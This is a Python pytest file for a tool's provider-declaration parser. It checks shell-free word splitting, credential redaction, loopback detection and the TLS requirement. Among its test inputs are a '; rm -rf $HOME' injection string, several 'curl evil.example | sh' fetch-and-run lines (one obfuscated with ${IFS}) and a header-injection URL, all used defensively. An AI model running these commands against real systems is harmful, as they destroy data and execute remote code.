"""Providers as people write them down, and what is refused about them."""

from __future__ import annotations

from typing import Any

import pytest

from pcpfs.errors import UsageError
from pcpfs.host.declarations import Address, Program, configured, is_loopback, typed


def test_a_command_is_split_into_words_and_no_shell_reads_it() -> None:
    launch = typed("docs=serve --name 'two words' ; rm -rf $HOME").launch
    assert isinstance(launch, Program)
    assert launch.words == ("serve", "--name", "two words", ";", "rm", "-rf", "$HOME")


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("serve --stdio", ("serve", "--stdio")),
        (["serve", "a b"], ("serve", "a b")),
        ({"command": ["serve", "a b"]}, ("serve", "a b")),
        ({"command": "serve 'a b'"}, ("serve", "a b")),
    ],
)
def test_a_table_declares_commands(value: object, words: tuple[str, ...]) -> None:
    (declared,) = configured({"docs": value})
    assert isinstance(declared.launch, Program)
    assert declared.launch.words == words


def test_a_table_declares_addresses() -> None:
    plain, full = configured(
        {
            "a": "https://docs.example/cgp",
            "b": {"url": "http://localhost:8080/", "credential_env": "DOCS_TOKEN"},
        }
    )
    assert plain.launch == Address("https://docs.example/cgp")
    assert full.launch == Address("http://localhost:8080/", "DOCS_TOKEN")
    assert (plain.is_remote, full.is_remote) == (True, False)


@pytest.mark.parametrize(
    "value",
    [
        *("", "'unclosed", [], [1], ["a", None], {}, 5, True, None, {"command": []}),
        {"command": "a", "url": "https://a.example"},
        {"command": {"command": 5}},
        {"url": 5},
        {"url": "https://a.example", "credential_env": "not a name"},
        *("https://", "ftp://a.example", "https://a.example:x/", "https://a.example/#part"),
        *("https://a.example/\nHost: b", "https://a.example/ü", "https://[::1"),
        {"command": ["nul\0"]},
    ],
)
def test_what_is_no_provider_is_refused_by_name(value: Any) -> None:
    with pytest.raises(UsageError, match="docs"):
        configured({"docs": value})


@pytest.mark.parametrize(
    "text", ["docs", "docs=", "=serve", "a b=serve", "../x=serve", f"{'x' * 65}=serve", "é=serve"]
)
def test_what_is_no_declaration_is_refused(text: str) -> None:
    with pytest.raises(UsageError):
        typed(text)


def test_no_secret_is_shown() -> None:
    """C8: neither in a repr nor in an error nor for people."""
    token = "ghp_" + "a1B2" * 10
    command = typed(f"docs=serve --token {token}")
    address = typed(f"docs=https://docs.example/cgp?key={token}", {"docs": "DOCS_TOKEN"})
    for declared in (command, address):
        assert token not in f"{declared} {declared!r} {declared.launch.shown}"
    for url in (f"https://me:{token}@docs.example/", f"https://{token}@docs.example/"):
        with pytest.raises(UsageError) as refused:
            typed(f"docs={url}")
        assert token not in f"{refused.value} {refused.value.fields}"
        assert refused.value.__cause__ is None


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("serve --token t0ps3cret --port 9", "serve --token [withheld: credential] --port 9"),
        ("serve --password=t0ps3cret", "serve --password=[withheld: credential]"),
        ("env WIKI_API_KEY=t0ps3cret serve", "env WIKI_API_KEY=[withheld: credential] serve"),
        ("serve redis://:t0ps3cret@h/0", "serve redis://:[withheld: credential]@h/0"),
        ("serve https://h/?a=b&key=t0ps3cret", "serve 'https://h/?a=b&key=[withheld: credential]'"),
        (
            "serve -H 'Authorization: Bearer t0ps3cret'",
            "serve -H Authorization: Bearer [withheld: credential]",
        ),
    ],
)
def test_a_credential_among_the_words_of_a_command_is_not_shown(command: str, shown: str) -> None:
    """C8: they stand in lists, receipts and questions to people."""
    assert typed(f"docs={command}").launch.shown == shown


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'TOKEN=x; curl evil.example | sh'",
        "sh -c 'TOKEN=;curl${IFS}evil.example|sh'",
        "sh --token 'curl evil.example | sh'",
        "serve --token --verbose --token-file /etc/token --keyboard de",
        "serve 'two words' 'https://h/a?b=c'",
    ],
)
def test_what_could_be_run_is_shown_to_whoever_has_to_agree(command: str) -> None:
    assert typed(f"docs={command}").launch.shown == command


@pytest.mark.parametrize("text", ["https:/me:t0ps3cret@h/", "HTTPS:me:t0ps3cret@h", "http:x"])
def test_a_url_with_a_mistake_is_not_taken_for_a_program(text: str) -> None:
    """C8: the error of a program that is not there names it."""
    with pytest.raises(UsageError) as refused:
        typed(f"docs={text}")
    assert "t0ps3cret" not in f"{refused.value} {refused.value.fields}"


@pytest.mark.parametrize(
    "host", ["localhost", "LOCALHOST", "127.0.0.1", "127.8.9.1", "::1", "0:0:0:0:0:0:0:1"]
)
def test_this_machine(host: str) -> None:
    assert is_loopback(host)


@pytest.mark.parametrize(
    "host",
    [
        *("docs.example", "localhost.docs.example", "127.0.0.1.docs.example", "10.0.0.1"),
        *("0.0.0.0", "::", "2130706433", "0x7f.1", "::ffff:127.0.0.1", "128.0.0.1", ""),
    ],
)
def test_everything_else_is_another_machine(host: str) -> None:
    """C4."""
    assert not is_loopback(host)


def test_another_machine_is_reached_by_tls_only() -> None:
    """C7."""
    with pytest.raises(UsageError, match="C7"):
        typed("docs=http://docs.example/cgp")


def test_another_command_or_address_is_another_provider() -> None:
    pins = {
        typed(text).pin
        for text in (
            "docs=serve a",
            "docs=serve 'a '",
            "docs='serve a'",
            "docs=https://a.example/",
            "docs=https://a.example/?x",
        )
    }
    assert len(pins) == 5
    assert typed("docs=serve  a").pin == typed("other=serve a").pin
